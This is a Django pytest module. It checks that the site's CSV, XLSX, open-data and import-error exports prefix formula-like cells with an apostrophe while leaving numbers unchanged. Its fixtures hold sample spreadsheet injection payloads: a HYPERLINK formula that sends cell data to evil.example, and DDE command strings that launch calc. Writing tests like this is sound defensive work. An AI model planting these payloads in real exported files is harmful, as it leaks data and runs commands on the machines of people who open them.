"""Formula injection on export (config/exports.py): a text cell a spreadsheet would run as a formula is written
with an apostrophe in front, in every CSV and XLSX the site writes; numbers stay numbers."""

import csv
import io
from datetime import date
from decimal import Decimal

import openpyxl
import pytest
import tablib
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import translation

from accounts.models import Role
from config.exports import SafeCSV, SafeXLSX, csv_writer, neutralise, restore, save_workbook
from services.bulk import COLUMNS
from services.models import BulkImport, Service, ServiceFigure
from services.reference_data import load_channels
from tests.factories import InstitutionFactory, UserFactory

pytestmark = pytest.mark.django_db

PAYLOAD = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1+cmd", "'+1+cmd"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("  =1", "'  =1"),  # a spreadsheet skips the spaces
        ("\uff1d1+1", "'\uff1d1+1"),  # the full-width equals sign some spreadsheets also take for a formula
    ],
)
def test_text_that_starts_like_a_formula_gets_an_apostrophe(cell, written):
    assert neutralise(cell) == written
    assert restore(written) == cell


@pytest.mark.parametrize(
    "cell",
    [12, -5, Decimal("-3.5"), 2.5, None, "", "-12", "-1 234,5", "+371", "12%", "VP-0001", "Rīga", "'quoted"],
)
def test_numbers_and_ordinary_text_are_written_as_they_are(cell):
    assert neutralise(cell) is cell
    assert restore(cell) is cell


def test_the_csv_writer_neutralises_every_row():
    buffer = io.StringIO()
    writer = csv_writer(buffer)
    writer.writerow(["=1+1", 5, "-5"])
    writer.writerows([["@x", Decimal("1.5")]])

    assert list(csv.reader(io.StringIO(buffer.getvalue()))) == [["'=1+1", "5", "-5"], ["'@x", "1.5"]]


def test_a_saved_workbook_keeps_numbers_as_numbers_and_formulas_as_text():
    workbook = openpyxl.Workbook()
    workbook.active.append(["=1+1", 42, -1.5, "plain"])
    buffer = io.BytesIO()

    save_workbook(workbook, buffer)

    cells = next(openpyxl.load_workbook(io.BytesIO(buffer.getvalue())).active.iter_rows())
    assert [cell.value for cell in cells] == ["'=1+1", 42, -1.5, "plain"]
    assert [cell.data_type for cell in cells] == ["s", "n", "n", "s"]


@pytest.mark.parametrize("file_format", [SafeCSV, SafeXLSX])
def test_the_admin_formats_neutralise_on_export_and_import_the_file_back_unchanged(file_format):
    dataset = tablib.Dataset(["=1+1", 7, "VP-1"], headers=["name", "count", "code"])

    exported = file_format().export_data(dataset)
    read_back = file_format().create_dataset(exported)

    # The file holds the apostrophe; reading it back takes it off again.
    raw = exported if isinstance(exported, str) else ""
    if raw:
        assert "'=1+1" in raw
    assert read_back[0][0] == "=1+1"
    assert str(read_back[0][1]) == "7"


@pytest.fixture
def catalogue():
    load_channels()
    holder = InstitutionFactory(short_name="ALPHA", name_lv=PAYLOAD, name_en=PAYLOAD)
    service = Service.objects.create(
        catalogue_id="VP-1", name_lv=PAYLOAD, name_en="-1+cmd|' /C calc'!A0", holder=holder, valid_from=date(2015, 1, 1)
    )
    service.providers.set([holder])
    return {"holder": holder, "service": service}


@pytest.fixture
def coordinator_client(client):
    client.force_login(UserFactory(role=Role.COORDINATOR))
    return client


def get_export(client, name, export_format, **kwargs):
    with translation.override("en"):
        url = reverse(name, **kwargs)
    response = client.get(url, {"_export": export_format})
    assert response.status_code == 200
    return response


def test_the_service_list_csv_export_neutralises_the_names(coordinator_client, catalogue):
    response = get_export(coordinator_client, "services:service-list", "csv")

    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    cells = [cell for row in rows[1:] for cell in row]
    assert "'" + PAYLOAD in cells
    assert "'-1+cmd|' /C calc'!A0" in cells
    assert PAYLOAD not in cells


def test_the_service_list_xlsx_export_writes_no_formula_and_leaves_counts_alone(coordinator_client, catalogue):
    response = get_export(coordinator_client, "services:service-list", "xlsx")

    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    header = [cell.value for cell in sheet[1]]
    row = sheet[2]
    assert all(cell.data_type != "f" for cell in row)
    assert "'" + PAYLOAD in [cell.value for cell in row]
    # The table writes its count as the text "0": text that is a number is never given an apostrophe.
    assert row[header.index("Channels")].value in (0, "0")


def test_the_shared_export_response_neutralises_the_completeness_report(coordinator_client, catalogue):
    response = get_export(coordinator_client, "services:completeness", "csv")

    content = response.content.decode("utf-8-sig")
    assert "'" + PAYLOAD.replace('"', '""') in content
    assert "\n" + PAYLOAD not in content and "," + PAYLOAD not in content


def test_the_error_report_of_an_import_neutralises_the_cells_it_echoes(
    client, catalogue, settings, tmp_path, django_capture_on_commit_callbacks
):
    settings.MEDIA_ROOT = tmp_path / "media"
    client.force_login(UserFactory(role=Role.COORDINATOR))
    bad_provider = "=cmd|' /C calc'!A0"
    content = f'{",".join(COLUMNS)}\nVP-1,"{bad_provider}",2023,year,0,portal,100,90,,,,,,\n'.encode()

    with translation.override("en"):
        with django_capture_on_commit_callbacks(execute=True):
            client.post(reverse("services:bulk-upload"), {"file": SimpleUploadedFile("figures.csv", content)})
        bulk_import = BulkImport.objects.get()
        assert bulk_import.status == "rejected"
        response = client.get(reverse("services:bulk-errors", args=[bulk_import.pk]))

    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert rows[1][:3] == ["2", "provider", "'" + bad_provider]
    assert ServiceFigure.objects.count() == 0


def test_the_open_data_csv_and_xlsx_neutralise_the_catalogue(client, catalogue):
    with translation.override("en"):
        csv_url = reverse("open_data:download", args=["services", "csv"])
        xlsx_url = reverse("open_data:download", args=["services", "xlsx"])

    content = b"".join(client.get(csv_url).streaming_content).decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(content)) for cell in row]
    assert "'" + PAYLOAD in cells and PAYLOAD not in cells

    sheet = openpyxl.load_workbook(io.BytesIO(client.get(xlsx_url).content))["data"]
    values = [cell.value for row in sheet.iter_rows() for cell in row]
    assert "'" + PAYLOAD in values and PAYLOAD not in values
